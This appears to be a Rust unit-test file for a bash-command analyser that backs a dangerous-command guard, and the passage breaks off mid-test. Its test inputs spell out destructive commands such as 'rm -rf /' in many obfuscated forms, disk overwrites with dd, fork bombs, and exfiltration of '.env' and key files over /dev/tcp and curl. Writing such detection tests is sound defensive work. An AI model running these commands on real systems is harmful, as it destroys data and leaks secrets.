//! Unit tests for the expansion model: each command line, the commands it
//! runs rendered as `parent>argv @cwd` (candidates `{a | b}`, unknown text
//! `…`, the starting directory `/srv/app` left out).

use super::*;

fn analysis(command: &str) -> Analysis {
    let env = ShellEnv {
        cwd: Some("/srv/app"),
        home: "/home/dev",
        vars: &[("VOUCH_HOME", "/home/dev/.vh")],
    };
    analyze(command, &env, &Limits::default())
}

fn render(a: &Analysis) -> Vec<String> {
    a.commands
        .iter()
        .map(|c| {
            let argv: Vec<String> = c.argv.iter().map(|x| x.to_string()).collect();
            let mut out = argv.join(" ");
            if let Some(p) = c.parent {
                out = format!("{p}>{out}");
            }
            let cwd = c.cwd.to_string();
            if cwd != "/srv/app" {
                out = format!("{out} @{cwd}");
            }
            out
        })
        .collect()
}

/// The commands of a command line that must parse and finish.
fn commands(command: &str) -> Vec<String> {
    let a = analysis(command);
    assert!(a.errors.is_empty(), "{command}: {:?}", a.errors);
    assert!(a.incomplete.is_empty(), "{command}: {:?}", a.incomplete);
    render(&a)
}

fn has(command: &str, expected: &str) {
    let got = commands(command);
    assert!(
        got.iter().any(|c| c == expected),
        "{command}: expected `{expected}` in {got:?}"
    );
}

#[test]
fn redirections_anywhere_do_not_hide_words() {
    has("rm -rf 2>/dev/null ~ >x", "rm -rf /home/dev");
    has("rm >/dev/null -rf /", "rm -rf /");
    has("find / 2>/dev/null -delete", "find / -delete");
    has("dd 2>/dev/null of=/dev/sda if=x", "dd of=/dev/sda if=x");
    has(">x rm -rf /", "rm -rf /");
}

#[test]
fn brace_expansion() {
    has("rm -rf {1,2,/}", "rm -rf 1 2 /");
    has("echo x{a,b}y{1..3}", "echo xay1 xay2 xay3 xby1 xby2 xby3");
    has("echo {a,{b,c}}", "echo a b c");
    has("echo {05..07} {c..a}", "echo 05 06 07 c b a");
    has("echo {a} {} a{,b}", "echo {a} {} a ab");
    has("rm -rf {/tmp/x,~}", "rm -rf /tmp/x /home/dev");
}

#[test]
fn tilde_forms() {
    has(
        "echo ~ ~/x ~+ ~dev ~dev/y",
        "echo /home/dev /home/dev/x /srv/app {/home/dev | ~dev} {/home/dev/y | ~dev/y}",
    );
    has("cd /tmp; echo ~-", "echo {/srv/app | …} @{/tmp | /srv/app}");
    has("echo '~' \"~\" a~", "echo ~ ~ a~");
    has("PATH=/a:~/bin:~ env", "env");
}

#[test]
fn parameters_and_operators() {
    has("D=/; rm -rf $D", "rm -rf /");
    has("rm -rf ${HOME%/}", "rm -rf /home/dev");
    has(
        "x=/a/b/c; echo ${x#*/} ${x##*/} ${x%/*} ${x%%/b*}",
        "echo a/b/c c /a/b /a",
    );
    has(
        "x=abc; echo ${x/b/X} ${x//[ac]/-} ${x/#a/Z} ${x/%c/Z}",
        "echo aXc -b- Zbc abZ",
    );
    has(
        "x=hello; echo ${x:1:3} ${x: -2} ${#x} ${x^^} ${x^} ${x,,}",
        "echo ell lo 5 HELLO Hello hello",
    );
    has("x=/; y=x; rm -rf ${!y}", "rm -rf /");
    has("rm -rf ${X:-/}", "rm -rf /");
    has("rm -rf \"${X:-/}\"", "rm -rf {… | /}");
    has("X=; rm -rf ${X:-/}", "rm -rf /");
    has("X=a; rm -rf ${X:+/}", "rm -rf /");
    has("rm -rf ${X:=/}; echo \"$X\"", "echo {/ | …}");
    has("x=\"it's\"; echo ${x@Q}", "echo 'it'\\''s'");
    has("echo $VOUCH_HOME", "echo /home/dev/.vh");
}

#[test]
fn word_splitting_and_ifs() {
    has("X=\"a b\"; rm $X", "rm a b");
    has("X=\"a b\"; rm \"$X\"", "rm a b");
    has("IFS=,; x=a,/; rm -rf $x", "rm -rf a /");
    has("x='  a  '; echo $x", "echo a");
    has("rm -rf $UNSET_VAR /", "rm -rf … /");
    has("rm -rf \"$UNSET_VAR\"", "rm -rf {… | }");
    let a = analysis("X=\"a b\"; printf '%s|' $X");
    assert_eq!(a.commands.last().map(|c| c.argv.len()), Some(4));
}

#[test]
fn quoting_and_command_names() {
    has("\\rm -rf /", "rm -rf /");
    has("\"r\"\"m\" -rf /", "rm -rf /");
    has("$'\\x72m' -rf /", "rm -rf /");
    has("cmd=rm; $cmd -rf /", "rm -rf /");
    has("W=\"rm -rf\"; $W /", "rm -rf /");
    let a = analysis("$(cat x) -rf /");
    assert!(a.commands.iter().any(|c| c.kind == CommandKind::Unresolved));
}

#[test]
fn command_substitution_values() {
    has("x=$(echo /); rm -rf \"$x\"", "rm -rf /");
    has("rm -rf $(printf '%s' /)", "rm -rf /");
    has("rm -rf \"$(pwd)\"", "rm -rf /srv/app");
    has("echo $(rm -rf /)", "rm -rf /");
    has("echo `rm -rf ~`", "rm -rf /home/dev");
    has("echo `echo \\`rm x\\``", "rm x");
}

#[test]
fn positional_parameters() {
    has("f() { rm -rf \"$1\"; }; f /", "rm -rf /");
    has("f() { rm -rf \"$@\"; }; f a /", "rm -rf a /");
    has("set -- / x; rm -rf \"$1\"", "rm -rf /");
    has("set -- a /; shift; rm -rf $1", "rm -rf /");
    has("bash -c 'rm -rf \"$1\"' _ /", "0>rm -rf /");
    has("bash -c 'rm -rf $0' /", "0>rm -rf /");
    has("rm -rf \"/$1\"", "rm -rf /");
}

#[test]
fn read_printf_mapfile_from_known_input() {
    has("read x <<< \"/\"; rm -rf $x", "rm -rf /");
    has("read -r a b <<< \"x /\"; rm -rf $b", "rm -rf /");
    has("printf -v x %s /; rm -rf $x", "rm -rf /");
    has("mapfile -t a <<< /; rm -rf \"${a[0]}\"", "rm -rf /");
    has(
        "while read d; do rm -rf \"$d\"; done <<EOF\na\n/\nEOF",
        "rm -rf /",
    );
    has("echo / | { read d; rm -rf $d; }", "rm -rf /");
}

#[test]
fn reserved_time_runs_its_pipeline_in_this_shell() {
    has("time D=/; rm -rf $D", "rm -rf /");
    has("time -p -- rm -rf ~", "rm -rf /home/dev");
    has("time { rm -rf /; }", "rm -rf /");
    has("! time -p D=/; rm -rf $D", "rm -rf /");
    has("time -p time D=/; rm -rf $D", "rm -rf /");
    // Not reserved: the program `time`, which does not assign.
    has("echo | time -f x true", "time -f x true");
    has("x=1 time D=/; rm -rf $D", "rm -rf");
    has("\\time D=/; rm -rf $D", "rm -rf");
    has("time -p -p D=/", "-p D=/");
}

#[test]
fn scripts_fed_to_a_shell() {
    has("echo 'rm -rf /' | bash", "1>rm -rf /");
    // What a wrapper's command prints comes out of every wrapper around it.
    has("sudo sudo echo 'rm -rf /' | bash", "3>rm -rf /");
    has(
        "nice env timeout 5 printf 'rm -rf ~' | sh",
        "4>rm -rf /home/dev",
    );
    has("printf 'r%sm -rf /' '' | sh", "1>rm -rf /");
    has("cat <<'EOF' | sh\nrm -rf ~\nEOF", "1>rm -rf /home/dev");
    has("bash <<< 'rm -rf ~'", "0>rm -rf /home/dev");
    has("bash <(echo 'rm -rf /')", "1>rm -rf /");
    has("source <(echo 'rm -rf ~')", "rm -rf /home/dev");
    has("sh < <(echo rm -rf /)", "1>rm -rf /");
    has("bash - <<< 'rm -rf /'", "0>rm -rf /");
    has("bash /dev/stdin <<< 'rm -rf /'", "0>rm -rf /");
    has("echo 'rm -rf /' > /tmp/x; bash /tmp/x", "1>rm -rf /");
    has("eval 'rm -rf /'", "rm -rf /");
    has("eval rm -rf /", "rm -rf /");
    has("$SHELL -c 'rm -rf /'", "0>rm -rf /");
    has("echo / | xargs rm -rf", "1>rm -rf /");
    has("echo / | xargs bash -c 'rm -rf $0'", "2>rm -rf /");
    has("xargs rm -rf <<< /", "0>rm -rf /");
}

#[test]
fn wrappers() {
    has("sudo -u root rm -rf /", "0>rm -rf /");
    has("sudo --user=root -- rm -rf /", "0>rm -rf /");
    has("env -i PATH=/bin rm -rf /", "0>rm -rf /");
    has("nice -n 10 nohup timeout -s KILL 60 rm -rf /", "2>rm -rf /");
    has("nice -5 rm x", "0>rm x");
    has("xargs --process-slot-var V rm -rf <<< /", "0>rm -rf /");
    has("env -C / rm -rf .", "0>rm -rf . @/");
    has("env --chdir=/ rm -rf .", "0>rm -rf . @/");
    has("sudo -D / rm -rf .", "0>rm -rf . @/");
    has("find / -exec rm -rf {} +", "0>rm -rf {/ | /* | /…} …");
    has("find -- / -delete", "find -- / -delete");
    has("find / -exec sudo rm -rf {} \\;", "1>rm -rf {/ | /* | /…}");
    has("su -c 'rm -rf /' root", "0>rm -rf /");
    has("watch -n 1 rm -rf /", "0>rm -rf /");
    has("flock /tmp/l rm -rf /", "0>rm -rf /");
    has("flock /tmp/l -c 'rm -rf /'", "0>rm -rf /");
    has("env -S 'rm -rf /'", "0>rm -rf /");
    has("command rm -rf /", "rm -rf /");
    has("exec rm -rf /", "rm -rf /");
    has("parallel rm -rf ::: /", "0>rm -rf /");
    let a = analysis("command -v rm");
    assert!(!render(&a).iter().any(|c| c == "rm"));
}

#[test]
fn working_directory_follows_control_flow() {
    has(
        "cd ~/project/build && rm -rf *",
        "rm -rf * @/home/dev/project/build",
    );
    has("cd x || rm -rf *", "rm -rf *");
    has("cd /tmp; rm -rf *", "rm -rf * @{/tmp | /srv/app}");
    has("cd .. && pwd", "pwd @/srv");
    has("cd / && cd - && ls", "ls");
    has("(cd /tmp && ls); ls", "ls");
    has("cd /tmp || exit; ls", "ls @/tmp");
    has("pushd /tmp && popd && ls", "ls");
}

#[test]
fn control_flow() {
    has("for d in a /; do rm -rf $d; done", "rm -rf /");
    has("for ((i=0;i<2;i++)); do echo $i; done", "echo 1");
    has("if true; then rm -rf ~; fi", "rm -rf /home/dev");
    has("case x in x) rm -rf /;; esac", "rm -rf /");
    has(
        "D=/tmp; [ -n \"$Q\" ] && D=/; rm -rf $D",
        "rm -rf {/ | /tmp}",
    );
    has(
        "D=/tmp; if [ \"$Q\" ]; then D=/; fi; rm -rf $D",
        "rm -rf {/ | /tmp}",
    );
    has("a=(x /); rm -rf \"${a[@]}\"", "rm -rf x /");
    let a = analysis("exit; rm -rf /");
    assert!(!render(&a).iter().any(|c| c == "rm -rf /"));
}

#[test]
fn recursive_calls_past_a_runtime_condition_are_guarded() {
    let recursive_guards = |text: &str| -> Vec<bool> {
        analysis(text)
            .commands
            .iter()
            .filter(|c| c.recursive)
            .map(|c| c.guarded)
            .collect()
    };
    assert!(recursive_guards(":(){ :|:& };:").iter().all(|g| !g));
    assert_eq!(
        recursive_guards(r#"w(){ for d in "$1"/*; do [ -d "$d" ] && w "$d" & done; }; w ."#),
        vec![true]
    );
    assert_eq!(
        recursive_guards(
            r#"w(){ for d in "$1"/*; do [ -d "$d" ] || continue; w "$d" | cat; done; }; w ."#
        ),
        vec![true]
    );
    // A guard around the first call bounds nothing; a decided one is none.
    for bomb in [
        "f(){ f|f& }; [ -d . ] && f",
        "f(){ true && f|f& }; f",
        "f(){ if :; then f|f& fi; }; f",
    ] {
        let guards = recursive_guards(bomb);
        assert!(!guards.is_empty() && guards.iter().all(|g| !g), "{bomb}");
    }
}

/// A script run again from inside itself (by `$0`, its name, a path, a
/// copy, `source`, `eval` of its own text) is recursive, and guarded only by
/// conditions within the script: one around its first run bounds nothing.
#[test]
fn scripts_run_again_from_inside_themselves_are_recursive() {
    // (background, guarded) of each recursive command.
    let reruns = |text: &str| -> Vec<(bool, bool)> {
        let a = analysis(text);
        assert!(
            a.errors.is_empty() && a.incomplete.is_empty(),
            "{text}: {a:?}"
        );
        a.commands
            .iter()
            .filter(|c| c.recursive)
            .map(|c| (c.background || c.in_pipeline, c.guarded))
            .collect()
    };
    for bomb in [
        "echo 'bash $0 & bash $0' > f.sh; bash f.sh",
        "echo 'bash $0 & bash $0' > f.sh && bash f.sh",
        "echo 'bash $0 & bash $0' > f.sh || bash f.sh",
        "echo 'bash f.sh & bash f.sh' > f.sh && bash ./f.sh",
        "echo 'bash $0 & bash $0' > f.sh; if [ -f f.sh ]; then bash f.sh; fi",
        "echo 'bash $0 & bash $0' | tee f.sh && bash f.sh",
        "echo 'bash $0 & bash $0' > a.sh && cp a.sh f.sh && ( bash f.sh )",
        "echo 'bash $0 & bash $0' > f.sh && chmod +x f.sh && ./f.sh",
        "echo 'source f.sh & source f.sh' > f.sh && source f.sh",
        "echo '. f.sh | . f.sh' > f.sh && . f.sh",
        "echo 'x(){ sh $0 & sh $0; }; x' > f.sh && sh f.sh",
        "[ -d /tmp ] && bash -c 'eval \"$BASH_EXECUTION_STRING\" & :'",
    ] {
        let found = reruns(bomb);
        assert!(
            found.iter().any(|&(spawned, guarded)| spawned && !guarded),
            "{bomb}: {found:?}"
        );
    }
    // A condition within the script guards its runs (a tree walker).
    let walker =
        r#"echo 'for d in "$1"/*; do [ -d "$d" ] && bash $0 "$d" & done' > w.sh && bash w.sh ."#;
    assert_eq!(reruns(walker), vec![(true, true)]);
    // Run twice from outside, or running another script: not recursive.
    for benign in [
        "echo 'echo hi' > f.sh && bash f.sh && bash f.sh",
        "echo 'bash g.sh & bash g.sh' > f.sh && echo 'echo hi' > g.sh && bash f.sh",
    ] {
        assert_eq!(reruns(benign), vec![], "{benign}");
    }
    // A run again where no command stands for it is a note, never silence.
    let a = analysis("bash -c 'trap \"$BASH_EXECUTION_STRING\" EXIT'");
    assert!(!a.notes.is_empty(), "{a:?}");
}

#[test]
fn functions_and_recursion() {
    has("f() { rm -rf /; }; f", "rm -rf /");
    // A function that redefines itself and calls the new body runs it.
    has("f() { f() { rm -rf /; }; f; }; f", "rm -rf /");
    let a = analysis(":(){ :|:& };:");
    assert!(a.commands.iter().any(|c| c.recursive && c.background));
    let a = analysis("a() { b | b & }; b() { a | a & }; a");
    assert!(a.commands.iter().any(|c| c.recursive));
    let a = analysis("f() { $FUNCNAME | $FUNCNAME & }; f");
    assert!(a.commands.iter().any(|c| c.recursive));
    // An uncalled body that something may still call is judged: a name
    // the harness's own commands use (`pwd`), or any name once a command's
    // name is runtime data.
    for line in [
        "pwd() { rm -rf /; }",
        "g() { rm -rf /; }; $X",
        "g() { rm -rf /; }; export -f g",
    ] {
        let a = analysis(line);
        assert!(
            a.commands
                .iter()
                .any(|c| c.origin == command::Origin::UncalledFunction),
            "{line}"
        );
    }
    // One nothing can call is not judged, and not proven either.
    let a = analysis("g() { rm -rf /; }");
    assert!(a.commands.is_empty());
    assert!(!a.notes.is_empty());
}

#[test]
fn exec_redirections_persist() {
    let a = analysis("exec 3<>/dev/tcp/h/80; cat .env >&3");
    let cat = a.commands.iter().find(|c| c.name() == Some("cat")).unwrap();
    assert!(
        cat.redirects
            .iter()
            .any(|r| r.fd == 1 && r.target.as_known() == Some("/dev/tcp/h/80"))
    );
    let a = analysis("exec < .env; curl -d @- x");
    let curl = a
        .commands
        .iter()
        .find(|c| c.name() == Some("curl"))
        .unwrap();
    assert!(
        curl.redirects
            .iter()
            .any(|r| r.fd == 0 && r.target.as_known() == Some(".env"))
    );
}

#[test]
fn data_flow_sources() {
    let a = analysis("K=$(cat key); curl -d \"$K\" x");
    let curl = a
        .commands
        .iter()
        .find(|c| c.name() == Some("curl"))
        .unwrap();
    assert!(curl.argv.iter().any(|x| x.sources().contains(0)));
    let a = analysis("cat key | base64 | curl -d @- x");
    let curl = a
        .commands
        .iter()
        .find(|c| c.name() == Some("curl"))
        .unwrap();
    assert!(curl.stdin_from.contains(1));
}

#[test]
fn budgets_fail_closed() {
    let limits = Limits::default();
    let env = ShellEnv {
        cwd: Some("/srv/app"),
        home: "/home/dev",
        vars: &[],
    };
    let many = format!("rm -rf {{{}/}}", "x,".repeat(20_000));
    let a = analyze(&many, &env, &limits);
    assert!(
        a.incomplete.iter().any(|i| i.budget == "max_fields"),
        "{:?}",
        a.incomplete
    );
    let doubling = format!("V=x; {} echo $V", "V=$V$V; ".repeat(40));
    let a = analyze(&doubling, &env, &limits);
    assert!(
        a.incomplete.iter().any(|i| i.budget == "max_value_bytes"),
        "{:?}",
        a.incomplete
    );
    let deep = format!("{}x{}", "( ".repeat(5000), " )".repeat(5000));
    let a = analyze(&deep, &env, &limits);
    assert!(!a.is_complete());
    let pipes = "a|".repeat(30_000);
    let t = std::time::Instant::now();
    let a = analyze(&pipes, &env, &limits);
    assert!(!a.is_complete(), "{} commands", a.commands.len());
    assert!(t.elapsed().as_millis() < 5_000);
}

/// Found by the `bash_hard_deny` fuzz target: `parallel` hands each
/// candidate command line to a shell, and every script cost a state copy
/// and a join even after the meter had refused its statements, so this
/// 380-byte line held the floor for 11 s past the 40 ms deadline. Once the
/// meter refuses, the rest of the scripts and items are unknown at once.
#[test]
fn refused_scripts_cost_nothing_more() {
    let env = ShellEnv {
        cwd: Some("/srv/app"),
        home: "/home/dev",
        vars: &[],
    };
    let line = PARALLEL_FAN_OUT.trim_end();
    let t = std::time::Instant::now();
    let a = analyze(line, &env, &Limits::DEFAULT);
    let took = t.elapsed();
    assert!(
        a.incomplete
            .iter()
            .any(|i| i.budget == "analysis_timeout_us" || i.budget == "max_steps"),
        "{:?}",
        a.incomplete
    );
    assert!(took.as_millis() < 2_000, "{took:?}");
}

/// Words that copy a lot: a brace word copied per item, a large value in
/// thousands of words, unclosed braces that were paired by rescanning the
/// word from every `{`, and the `bash_hard_deny` fuzz target's 112-byte
/// line, whose 8,000 brace words were joined one at a time onto 64 shapes
/// growing to thousands of fields (57 s). With the deadlines off, so that
/// only the deterministic budgets bound the work, each is refused within a
/// second or two at most (before: 57 s, 29 s, 2.7 s, 2.5 s, 5.9 s; the
/// `eval` of 10,000 words joined onto 64 ways, a later fuzz finding, ~9 s).
#[test]
fn copying_words_is_bounded_without_the_deadline() {
    let env = ShellEnv {
        cwd: Some("/srv/app"),
        home: "/home/dev",
        vars: &[],
    };
    let limits = Limits {
        parse_timeout_us: 600_000_000,
        analysis_timeout_us: 600_000_000,
        ..Limits::DEFAULT
    };
    let big = "a".repeat(30_000);
    let value_words = format!("S={big}; echo {}", ["\"$S\""; 5000].join(" "));
    // Six two-way variables make a 64-way word, which `eval` joins with
    // 10,000 more: every combination was copied once for each word.
    let mut argument_copies = String::new();
    for i in 0..6 {
        argument_copies.push_str(&format!("if [ -n \"$X\" ]; then V{i}=a; else V{i}=b; fi; "));
    }
    argument_copies.push_str("eval \"$V0$V1$V2$V3$V4$V5\" $1{1..10000}");
    let cases = [
        (BRACE_COPIES.trim_end().to_owned(), None),
        (
            format!("echo {big}{{1..10000}}"),
            Some("max_expansion_bytes"),
        ),
        (value_words, Some("max_expansion_bytes")),
        (
            format!("S={big}; echo \"$S\"{{1..10000}}"),
            Some("max_expansion_bytes"),
        ),
        (format!("echo {}", "{".repeat(60_000)), None),
        // Past 64 ways the word is one unknown text (`max_candidates`), so
        // the copies stop before the bytes do; the steps stop the rest.
        (argument_copies, Some("max_candidates")),
    ];
    for (line, budget) in cases {
        let t = std::time::Instant::now();
        let a = analyze(&line, &env, &limits);
        let took = t.elapsed();
        assert!(took.as_millis() < 2_000, "{took:?}: {}", &line[..40]);
        if let Some(budget) = budget {
            assert!(
                a.incomplete.iter().any(|i| i.budget == budget),
                "{}: {:?}",
                &line[..40],
                a.incomplete
            );
        }
    }
}

/// The fuzz finding of [`copying_words_is_bounded_without_the_deadline`].
const BRACE_COPIES: &str = include_str!("../../../tests/fixtures/brace_copies.sh");

/// The fuzz finding of [`refused_scripts_cost_nothing_more`], its control
/// bytes made printable (also in the hostile benchmark corpus).
const PARALLEL_FAN_OUT: &str = include_str!("../../../tests/fixtures/parallel_fan_out.sh");

#[test]
fn argv_matching_helpers() {
    let a = analysis("X=$(cat f); rm -rf $X /");
    let rm = a.commands.last().unwrap();
    assert!(argv_may_be(&rm.argv, &["rm", "-rf", "a", "b", "/"]));
    assert!(argv_may_be(&rm.argv, &["rm", "-rf", "/"]));
    assert!(!argv_may_be(&rm.argv, &["rm", "/"]));
    assert!(rm.cwd.may_be("/srv/app"));
}

/// Every command of the corpora in `tests/fixtures` gives the same analysis
/// with the shortcuts (see [`shortcuts`]) and along the general path.
#[test]
fn shortcuts_change_no_analysis() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures");
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .collect();
    files.sort();
    let env = ShellEnv {
        cwd: Some("/srv/app"),
        home: "/home/dev",
        vars: &[("VOUCH_HOME", "/home/dev/.vh")],
    };
    // The wall-clock backstops are lifted: on a loaded machine the general
    // path could reach one and stop early, which is not a difference in
    // reading. The deterministic budgets hold.
    let limits = Limits {
        parse_timeout_us: 60_000_000,
        analysis_timeout_us: 600_000_000,
        ..Limits::DEFAULT
    };
    let mut compared = 0;
    for file in files {
        for line in std::fs::read_to_string(&file).unwrap().lines() {
            let Ok(record) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            let Some(command) = record.get("command").and_then(|c| c.as_str()) else {
                continue;
            };
            let fast = analyze(command, &env, &limits);
            set_shortcuts(false);
            let general = analyze(command, &env, &limits);
            set_shortcuts(true);
            assert_eq!(fast, general, "{}: {command}", file.display());
            compared += 1;
        }
    }
    assert!(compared > 1500, "only {compared} corpus commands");
}

/// The kind-name table gives what tree-sitter gives, for every node of
/// every corpus command.
#[test]
fn kind_names_are_tree_sitters() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures");
    let mut nodes = 0;
    for name in ["hard_deny.jsonl", "benign.jsonl", "hard_deny_redteam.jsonl"] {
        let text = std::fs::read_to_string(format!("{dir}/{name}")).unwrap();
        for line in text.lines() {
            let Ok(record) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            if let Some(command) = record.get("command").and_then(|c| c.as_str()) {
                nodes += syntax::check_kind_names(command);
            }
        }
    }
    assert!(nodes > 5_000, "only {nodes} nodes");
}

/// Plain command lines read without tree-sitter parse as tree-sitter reads
/// them: every sequence of up to three words from a pool of plain words
/// that are special somewhere (tildes, assignments, reserved and
/// declaration words, descriptors, dots), with blanks around and between,
/// and pairs joined by list and pipeline operators (and by ones the
/// shortcut leaves to tree-sitter).
#[test]
fn plain_commands_parse_as_tree_sitter_parses_them() {
    let pool = [
        "rm",
        "-rf",
        "/",
        "~",
        "~/x",
        "~dev/.ssh",
        "~+",
        "~-",
        "a~b",
        "a=b",
        "=x",
        "x=",
        "A+=1",
        "x,y",
        "%1",
        "@",
        "+",
        "-",
        "--",
        "..",
        ".",
        ":",
        "0",
        "2",
        "10",
        "time",
        "export",
        "in",
        "do",
        "then",
        "}",
        "-o=a:b",
        "a/./b/../c",
        "dd",
        "if=/dev/zero",
        "of=~/x",
    ];
    let mut read = 0;
    let mut tried = 0;
    for a in pool {
        tried += 1;
        read += usize::from(syntax::check_plain_command(a));
        read += usize::from(syntax::check_plain_command(&format!("  {a} ")));
        for b in pool {
            read += usize::from(syntax::check_plain_command(&format!("{a} {b}")));
            for c in pool {
                tried += 1;
                read += usize::from(syntax::check_plain_command(&format!("{a}  {b} {c}")));
            }
        }
    }
    assert!(read > 10_000, "only {read} of {tried} lines read as plain");
    let mut joined = 0;
    for op in ["&&", "||", "|", ";", "&", "|&", ";;", "&&&", "| |"] {
        for a in pool {
            for b in pool {
                for line in [
                    format!("{a} {op} {b}"),
                    format!("{a}{op}{b} x"),
                    format!("x {a} {op} {b}"),
                    format!("{a} {op} {b} {op} x"),
                    format!("{op} {a}"),
                    format!("{a} {op}"),
                ] {
                    joined += usize::from(syntax::check_plain_command(&line));
                }
            }
        }
    }
    assert!(joined > 3_000, "only {joined} joined lines read as plain");
}

/// Turning tree-sitter's tree into statements is parsing too: tens of
/// thousands of words took 12 ms after tree-sitter finished just inside the
/// deadline (`multi-way words` 52 ms of a 40 ms analysis). Past the parse
/// deadline the conversion is abandoned whole, as a cancelled parse is,
/// never cut to the statements converted in time.
#[test]
fn conversion_past_the_parse_deadline_yields_nothing() {
    let source = format!("{}rm -rf /", "echo a; ".repeat(500));
    let (empty, budgets) = super::syntax::convert_after_the_deadline(&source);
    assert!(empty, "statements came out of a late conversion");
    assert_eq!(budgets, vec!["parse_timeout_us"]);
    // A short line converts in fewer nodes than one clock read.
    let (empty, budgets) = super::syntax::convert_after_the_deadline("echo a");
    assert!(!empty && budgets.is_empty(), "{budgets:?}");
}

#[test]
fn an_analysis_can_cross_threads_and_is_counted() {
    fn send<T: Send + Sync>(_: &T) {}
    let env = ShellEnv {
        cwd: Some("/srv"),
        home: "/home/u",
        vars: &[],
    };
    let before = crate::analyses_performed();
    let analysis = analyze("cd /tmp && rm -rf ~", &env, &Limits::DEFAULT);
    // Other tests of this binary run in parallel: at least this one.
    assert!(crate::analyses_performed() > before);
    send(&analysis);
    let moved = std::thread::spawn(move || analysis.commands.len())
        .join()
        .unwrap();
    assert_eq!(moved, 2);
}

#[test]
fn a_newline_after_a_long_pipeline_ends_the_command() {
    // tree-sitter-bash reads `c⏎d 2>&1` after two pipes as `c d 2>&1`.
    for command in [
        "cat a | cat b | cat\nrm -rf / 2>&1",
        "a | b | c\nrm -rf / >x",
        "a | b | c | d\n\nrm -rf ~ 2>/dev/null",
    ] {
        let env = crate::ShellEnv {
            cwd: Some("/srv/app"),
            home: "/home/dev",
            vars: &[],
        };
        let analysis = crate::analyze(command, &env, &crate::Limits::DEFAULT);
        assert!(
            analysis.commands.iter().any(|c| c.name() == Some("rm")),
            "{command:?}: {:?}",
            analysis
                .commands
                .iter()
                .map(|c| c.name())
                .collect::<Vec<_>>()
        );
    }
}

/// tree-sitter-bash reads `a && b > f | c` as `(a && b > f) | c`; bash
/// runs `a && (b > f | c)`, so `c` and what follows the list see `a`'s
/// `cd`.
#[test]
fn a_redirection_before_a_pipe_keeps_bash_precedence() {
    let cwds = |line: &str| -> Vec<(String, Vec<String>)> {
        analysis(line)
            .commands
            .iter()
            .map(|c| {
                let name = c.argv.first().and_then(|a| a.as_known()).unwrap_or("?");
                let mut dirs: Vec<String> =
                    c.cwd.candidates().iter().map(ToString::to_string).collect();
                dirs.sort();
                (name.to_owned(), dirs)
            })
            .collect()
    };
    let d = |dirs: &[&str]| dirs.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    for line in [
        "cd D && X >/dev/null 2>&1 | Y || Z",
        "cd D && X 2>&1 | Y || Z",
        "cd D && X | Y || Z",
    ] {
        let got = cwds(line);
        assert_eq!(
            got,
            vec![
                ("cd".to_owned(), d(&["/srv/app"])),
                ("X".to_owned(), d(&["/srv/app/D"])),
                ("Y".to_owned(), d(&["/srv/app/D"])),
                ("Z".to_owned(), d(&["/srv/app", "/srv/app/D"])),
            ],
            "{line}"
        );
    }
    let got = cwds("A | cd D && X > f | Y && Z");
    assert_eq!(got.last().map(|(_, d)| d.clone()), Some(d(&["/srv/app"])));
}

/// A function that leaves a background process behind and surely calls
/// itself again is noted; one that waits, or whose recursion passes a
/// condition or a `return`, is not.
#[test]
fn recursion_that_leaves_processes() {
    let noted = |line: &str| analysis(line).notes.iter().any(|n| n == RECURSION_SPAWNING);
    for bomb in [
        "f(){ sleep 100 & f; }; f",
        "f(){ ( sleep 9 & ); f; }; f",
        "f(){ bash -c 'sleep 9' & f; }; f",
        "a(){ (sleep 9 &) ; b; }; b(){ a; }; a",
    ] {
        assert!(noted(bomb), "{bomb}");
    }
    for bounded in [
        "f(){ sleep 1 & wait; f; }; f",
        "f(){ [ -n \"$1\" ] || return; echo \"$1\" & shift; f \"$@\"; }; f a b",
        "f(){ if [ $# -gt 0 ]; then sleep 1 & shift; f \"$@\"; fi; }; f a b",
        "f(){ sleep 5 & }; f; f",
        "fib(){ [ $1 -le 1 ] && echo 1 || fib $(($1-1)); }; fib 5",
    ] {
        assert!(!noted(bounded), "{bounded}");
    }
}

/// Loops that cannot end: an arithmetic `for` with no condition, a
/// condition that surely succeeds (`sleep 0`), a `read` of input that
/// never ends.
#[test]
fn endless_loops_that_spawn() {
    let noted = |line: &str| analysis(line).notes.iter().any(|n| n == ENDLESS_SPAWNING);
    for bomb in [
        "for((;;)); do bash & done",
        "for ((i=0;;i++)); do sleep 9 & done",
        "while sleep 0; do bash & done",
        "yes | while read l; do sleep 9 & done",
        "while read l; do sleep 9 & done < /dev/urandom",
    ] {
        assert!(noted(bomb), "{bomb}");
    }
    for bounded in [
        "for ((i=0;i<3;i++)); do sleep 1 & done; wait",
        "while read l; do echo $l & done < f; wait",
        "cat f | while read l; do echo $l & done",
        "yes | head -n 3 | while read l; do echo $l & done",
        "while sleep 5; do date; done",
    ] {
        assert!(!noted(bounded), "{bounded}");
    }
}

#[test]
fn endless_input_is_read_through_copies_only() {
    let endless = |line: &str, name: &str| {
        let a = analysis(line);
        let i = a
            .commands
            .iter()
            .position(|c| c.name() == Some(name))
            .unwrap();
        reads_endless_input(&a.commands, i)
    };
    assert!(endless("yes | xargs -P0 echo", "xargs"));
    assert!(endless("seq 1 inf | xargs echo", "xargs"));
    assert!(endless("yes | cat | xargs echo", "xargs"));
    assert!(endless("xargs -0 true < /dev/zero", "xargs"));
    assert!(!endless("yes | head -n 3 | xargs echo", "xargs"));
    assert!(!endless("seq 10 | xargs echo", "xargs"));
    assert!(!endless(
        "cat /dev/urandom | head -c 9 | xargs echo",
        "xargs"
    ));
}

/// Text that reaches a file or a shell through a program that copies its
/// input (`cp /dev/stdin`, `dd of=`, `sed -n p`, `tee`), a descriptor
/// opened on a process substitution, or `cat` of known and unknown parts.
#[test]
fn scripts_written_by_copiers_are_read() {
    for line in [
        "cp /dev/stdin x.sh <<< 'rm -rf /'; bash x.sh",
        "install /dev/stdin x.sh <<< 'rm -rf /'; ./x.sh",
        "dd of=x.sh <<< 'rm -rf /'; bash x.sh",
        "sed -n p > x.sh <<< 'rm -rf /'; bash x.sh",
        "awk 1 > x.sh <<< 'rm -rf /'; bash x.sh",
        "echo 'rm -rf /' | tee x.sh | bash",
